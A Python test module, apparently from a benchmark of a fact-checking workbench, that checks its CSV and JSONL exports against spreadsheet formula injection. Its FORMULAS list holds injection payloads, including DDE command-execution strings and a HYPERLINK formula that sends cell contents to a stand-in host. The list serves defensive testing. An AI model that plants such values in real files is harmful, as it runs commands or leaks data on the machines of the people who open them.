"""Formulas in every field, through every export, judged by what a spreadsheet would evaluate."""

import csv
import io
import json
import unicodedata
from dataclasses import replace
from pathlib import Path

from benchmarks.story import story
from benchmarks.torture import stores
from benchmarks.torture.row import Outcome, Row
from workbench import review
from workbench.export import unguard
from workbench.model import Evidence, ReviewerRole, Speaker, SpeakerType, Stance
from workbench.review import Answer
from workbench.store import Store

TABLES = ("claims", "annotations", "evidence", "decisions", "events")
BEGINNINGS = "=+-@|%\t\r\n\0＝＋－＠"
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1 million",
    "-5 degrees",
    "-- Ida Quill",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|cmd",
    "%0A=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    '"=1+1"',
    "'=1+1",
    "''",
    "＝1+1",
    "first line\n=1+1",
    "one;=1+1",
    "one\t=1+1",
    "−1",
)


def main(folder: Path) -> Outcome:
    """The cells that a spreadsheet would evaluate, and those that do not come back as they were."""
    path = folder / "formulas.db"
    _fill(path)
    live, changed, cells = [], 0, 0
    for name in TABLES:
        rows, exact = _table(path, folder, name)
        for row, plain in zip(rows, exact, strict=True):
            cells += len(row)
            live += [cell for cell in row.values() if _is_live(cell)]
            changed += sum(unguard(row[key]) != _text(plain[key]) for key in row)
    told = f"{cells:,} cells of {len(TABLES)} tables: {len(live)} live, {changed} changed"
    return Outcome(
        told + (f", first: {live[0]!r}" if live else ""),
        "0 live, 0 changed",
        not live and not changed and cells > 1000,
    )


def _fill(path: Path) -> None:
    article, found = story(900, len(FORMULAS))
    named = [
        replace(one, speaker=Speaker(text, SpeakerType.NAMED_PERSON, text), why=text)
        for one, text in zip(found, FORMULAS, strict=True)
    ]
    with Store.open(path) as store:
        store.people.add(stores.LEAD, operation="lead", role=ReviewerRole.LEAD)
        told = replace(article, title="=1+1", publisher="@SUM(1)", byline="+cmd", url="=cmd|'x'!A0")
        store.intake.add(told, named, reviewer=stores.LEAD, operation="article")
        for claim, text in zip(store.claims.of(article.id), FORMULAS, strict=False):
            by = f"{claim.id} {text}"
            note = Answer(claim.id, stores.LEAD, "note", text, 0, f"note {by}")
            review.answer(store, stores.BOOK, note)
            cited = Evidence(claim.id, stores.LEAD, citation=text, origin=text, note=text)
            cited = replace(cited, stance=Stance.SUPPORTS)
            review.add_evidence(store, cited, operation=f"cite {by}")


def _table(path: Path, folder: Path, name: str) -> tuple[list[dict[str, str]], list[dict]]:
    out = {form: folder / f"{name}.{form}" for form in ("csv", "jsonl")}
    for form, file in out.items():
        stores.command("export", name, "--format", form, "--out", file, "--db", path)
    text = out["csv"].read_bytes().decode()
    exact = [json.loads(line) for line in out["jsonl"].read_text(encoding="utf-8").splitlines()]
    return list(csv.DictReader(io.StringIO(text, newline=""))), exact


def _text(value: object) -> str:
    return "" if value is None else str(value)


def _is_live(cell: str) -> bool:
    """Whether a spreadsheet could evaluate it: what it shows first begins a formula."""
    try:
        float(cell)
    except ValueError:
        pass
    else:
        return False
    lines = cell.replace("\r", "\n").replace(";", "\n").replace("\t", "\n").split("\n")
    return cell[:1] in tuple(BEGINNINGS) or any(_begins(line) for line in lines)


def _begins(line: str) -> bool:
    seen = line.lstrip('" ')
    while seen and unicodedata.category(seen[0])[0] in "CZ":
        seen = seen[1:].lstrip('" ')
    return seen[:1] in tuple(BEGINNINGS)


ROWS = (Row("S1", "formulas through every export", main),)
